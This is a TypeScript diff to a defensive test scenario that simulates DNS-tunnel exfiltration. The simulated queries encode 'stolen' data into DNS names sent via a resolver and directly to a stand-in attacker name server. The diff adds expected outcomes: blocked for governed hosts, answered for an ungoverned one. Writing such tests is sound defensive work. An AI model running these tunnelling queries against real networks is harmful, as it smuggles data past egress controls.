@@ -28,6 +28,7 @@ const attempt = (
   says: string,
   server: string,
   type: string,
+  expect: Attempt['expect'],
   overTcp = false,
   from: HostName = 'invoice-processor',
 ): Attempt => {
@@ -37,7 +38,7 @@ const attempt = (
     says,
     from,
     client: dig(server, tunnelName(stolen, mark), type, overTcp),
-    expect: governed ? 'silence' : 'answered',
+    expect,
     ...(!governed && { answer: 'received' }),
   };
 };
@@ -50,11 +51,17 @@ export const dnsTunnel: Scenario = {
   name: 'dns-tunnel',
   about: 'data hidden in DNS questions',
   attempts: [
-    attempt('through the permitted resolver', resolver.ipv4.host, 'TXT'),
-    attempt('through its IPv6 address', resolver.ipv6.host, 'A'),
-    attempt('over TCP, where questions could not be read', resolver.ipv4.host, 'TXT', true),
-    attempt('straight to the attacker’s name server', attacker.ipv4.host, 'TXT'),
-    attempt('straight to it over IPv6', attacker.ipv6.host, 'TXT'),
+    attempt('through the permitted resolver', resolver.ipv4.host, 'TXT', 'refused'),
+    attempt('through its IPv6 address', resolver.ipv6.host, 'A', 'refused'),
+    attempt(
+      'over TCP, where questions could not be read',
+      resolver.ipv4.host,
+      'TXT',
+      'silence',
+      true,
+    ),
+    attempt('straight to the attacker’s name server', attacker.ipv4.host, 'TXT', 'silence'),
+    attempt('straight to it over IPv6', attacker.ipv6.host, 'TXT', 'silence'),
   ],
 };
 
@@ -67,6 +74,7 @@ export const dnsTunnelUngoverned: Scenario = {
       'the tunnel does work for a host that is not governed',
       resolver.ipv4.host,
       'TXT',
+      'answered',
       false,
       'billing',
     ),
